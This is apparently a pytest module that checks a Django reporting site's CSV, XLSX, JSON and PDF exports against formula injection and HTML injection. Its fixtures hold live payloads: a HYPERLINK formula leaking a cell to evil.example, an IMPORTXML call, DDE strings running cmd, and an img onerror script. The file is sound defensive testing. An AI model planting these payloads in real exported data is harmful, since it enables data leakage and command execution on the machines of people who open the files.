"""Issue 10, finding 7: formula injection in exports.

Names of units and officials, an agency's explanation, an appraiser's reason and a
petition's finding that start with `=`, `+`, `-`, `@`, a tab or a carriage return must
reach every CSV and XLSX the site writes as text — the open data, report forms a, b, c,
the audit log — never as a live formula; numbers stay numbers; the JSON keeps the text
as typed; the PDF shows it as text.
"""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "reports"))

import report_world
from personas import Personas
from ranking_rows import unit_get
from report_files import pdf_text
from report_world import PUBLISHED, World

from tthc.cells import FORMULA_STARTS
from tthc.evaluation.services import Key
from tthc.organisation.models import Official, UnitKind
from tthc.petitions.models import PetitionKind
from tthc.petitions.services import Actor, petition_classify, petition_decide, petition_submit
from tthc.reports.documents import report_data, report_html, report_pdf
from tthc.reports.layouts._sheet import Column, new_sheet
from tthc.reports.opendata import as_csv
from tthc.reports.selectors import open_data

# The classic payloads: each one a formula that Excel or LibreOffice would run.
UNIT_NAMES = {
    "STP": '=HYPERLINK("http://evil.example/?leak="&A1;"Sở Tư pháp")',
    "SGT": "+1+cmd|' /C calc'!A0",
    "H01": "-2+3+cmd|' /C calc'!A0",
    "X01": "@SUM(1+1)*cmd|' /C calc'!A0 <img src=x onerror=alert(1)>",
}
OFFICIAL_NAMES = {"CB-STP-1": "=1+2", "CB-STP-2": "\t=3+4 Lò Văn Đức",
                  "CB-SGT-1": "\r=5+6 Trần Quốc Việt"}
EXPLANATION = '=IMPORTXML("http://evil.example/";"//a") đã niêm yết đủ'
REASON = "-1+cmd|' /C notepad'!A0 niêm yết chưa đủ"
PETITION_REASON = "@SUM(9) phản ánh đúng"
PETITION_USER = "@tham-dinh"
PAYLOADS = {*UNIT_NAMES.values(), *OFFICIAL_NAMES.values(), EXPLANATION, REASON, PETITION_REASON,
            PETITION_USER}


@pytest.fixture
def world(personas: Personas, monkeypatch: pytest.MonkeyPatch) -> World:
    """The reports' world (tests/reports/report_world.py) with every typed text a payload."""
    kinds = {"STP": UnitKind.PROVINCE_AGENCY, "SGT": UnitKind.PROVINCE_AGENCY,
             "H01": UnitKind.DISTRICT, "X01": UnitKind.COMMUNE}
    units = {code: unit_get(code, kinds[code], name) for code, name in UNIT_NAMES.items()}
    for code, name in OFFICIAL_NAMES.items():
        Official.objects.create(code=code, full_name=name, unit=units[code.split("-")[1]])
    monkeypatch.setattr(report_world, "EXPLANATION", EXPLANATION)
    monkeypatch.setattr(report_world, "DEDUCTION_REASON", REASON)
    built = report_world.world_create(personas)
    user = get_user_model().objects.create_user(PETITION_USER, None, None)
    actor = Actor(name=PETITION_USER, user=user)
    petition = petition_submit(unit_code="STP", content="Hồ sơ bị trả chậm.", actor=actor)
    petition = petition_classify(petition=petition, kind=PetitionKind.RULES, about_official=None,
                                 actor=actor)
    petition_decide(petition=petition, upheld=True, actor=actor, reason=PETITION_REASON)
    return built


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _assert_csv_inert(rows: list[list[str]]) -> set[str]:
    """No field starts a formula; returns the fields, each with its guard quote removed."""
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_STARTS), field
    return {field[1:] if field.startswith("'") else field for row in rows for field in row}


def _assert_xlsx_inert(content: bytes) -> dict[Any, Any]:
    """No formula anywhere; every string a text cell, quote-prefixed when it starts like a
    formula. Returns each value with its cell's data type."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"formula element in {name}"
    found: dict[Any, Any] = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, (cell.coordinate, cell.value)
                found.setdefault(cell.value, cell.data_type)
    return found


def test_open_data_csv_quotes_every_formula_text(world: World) -> None:
    content = world.client("anonymous").get(f"/cong-khai/{PUBLISHED}/du-lieu.csv").content
    rows = _csv_rows(content)
    fields = _assert_csv_inert(rows)
    assert set(UNIT_NAMES.values()) <= fields
    by_code = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    for code, name in UNIT_NAMES.items():
        assert by_code[code]["name"] == "'" + name
    # Numbers are left alone.
    assert (by_code["STP"]["total"], by_code["STP"]["i6"], by_code["STP"]["dossiers"]) == \
        ("14.5", "1.0", "120")


def test_open_data_json_keeps_the_text_as_typed(world: World) -> None:
    document = world.client("anonymous").get(f"/cong-khai/{PUBLISHED}/du-lieu.json").json()
    assert {a["code"]: a["name"] for a in document["agencies"]} == UNIT_NAMES


def test_open_data_csv_keeps_a_negative_number_a_number(world: World) -> None:
    data = open_data(Key(PUBLISHED))
    data["agencies"][0]["total"] = Decimal("-1.5")
    rows = _csv_rows(as_csv(data))
    assert dict(zip(rows[0], rows[1], strict=True))["total"] == "-1.5"


@pytest.mark.parametrize("path", [
    "tong-hop.xlsx",                   # form c: every agency
    "don-vi/STP.xlsx",                 # form b: explanation and reason
    "can-bo-don-vi/STP.xlsx",          # form a: a unit's officials
    "can-bo/CB-SGT-1.xlsx",            # form a: one official
])
def test_report_xlsx_cells_are_text_not_formulas(world: World, path: str) -> None:
    response = world.client("appraiser").get(f"/bao-cao/{PUBLISHED}/{path}")
    assert response.status_code == 200
    found = _assert_xlsx_inert(response.content)
    expected = {
        "tong-hop.xlsx": set(UNIT_NAMES.values()),
        "don-vi/STP.xlsx": {EXPLANATION, REASON},
        "can-bo-don-vi/STP.xlsx": {OFFICIAL_NAMES["CB-STP-1"], OFFICIAL_NAMES["CB-STP-2"],
                                   UNIT_NAMES["STP"]},
        "can-bo/CB-SGT-1.xlsx": {OFFICIAL_NAMES["CB-SGT-1"], UNIT_NAMES["SGT"]},
    }[path]
    # XML reads a carriage return back as a line feed (the file holds the text as typed).
    assert {text.replace("\r", "\n") for text in expected} <= set(found)
    numbers = [value for value, kind in found.items() if kind == "n"]
    assert numbers and all(isinstance(value, int | float) for value in numbers)


def test_report_sheet_keeps_a_negative_number_a_number() -> None:
    sheet = new_sheet("Thử", [Column("Điểm", 8, "0.0"), Column("Ghi chú", 20)], landscape=False)
    sheet.table_row([Decimal("-1.5"), "-1.5"])
    cells = load_workbook(io.BytesIO(sheet.bytes())).active[1]
    assert (cells[0].value, cells[0].data_type, cells[0].quotePrefix) == (-1.5, "n", False)
    assert (cells[1].value, cells[1].data_type, cells[1].quotePrefix) == ("-1.5", "s", True)


def test_audit_csv_quotes_every_formula_text(world: World) -> None:
    response = world.client("appraiser").get("/nhat-ky/nhat-ky-thay-doi.csv")
    rows = _csv_rows(b"".join(response.streaming_content))
    fields = _assert_csv_inert(rows)
    assert {PETITION_REASON, PETITION_USER} <= fields
    assert any(REASON in field for field in fields)  # inside the column of changes
    assert any(row[1] == "'" + PETITION_USER and row[7] == "'" + PETITION_REASON for row in rows)


def test_audit_xlsx_cells_are_text_not_formulas(world: World) -> None:
    response = world.client("appraiser").get("/nhat-ky/nhat-ky-thay-doi.xlsx")
    found = _assert_xlsx_inert(response.content)
    assert {PETITION_REASON, PETITION_USER} <= set(found)


def test_pdf_reports_show_the_payload_as_text(world: World) -> None:
    report = report_data("c", Key(PUBLISHED))
    html = report_html(report)
    assert "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    html_b = report_html(report_data("b", Key(PUBLISHED), unit="STP"))
    assert "=IMPORTXML(&quot;http://evil.example/&quot;;&quot;//a&quot;)" in html_b
    text = " ".join(pdf_text(report_pdf(report), layout=False).split())
    assert "onerror=alert(1)>" in text


def test_every_payload_is_exercised() -> None:
    """Each payload starts as a spreadsheet formula would (a tab and a carriage return
    included), so the tests above prove the guard for every trigger."""
    assert {payload[0] for payload in PAYLOADS} == set(FORMULA_STARTS)
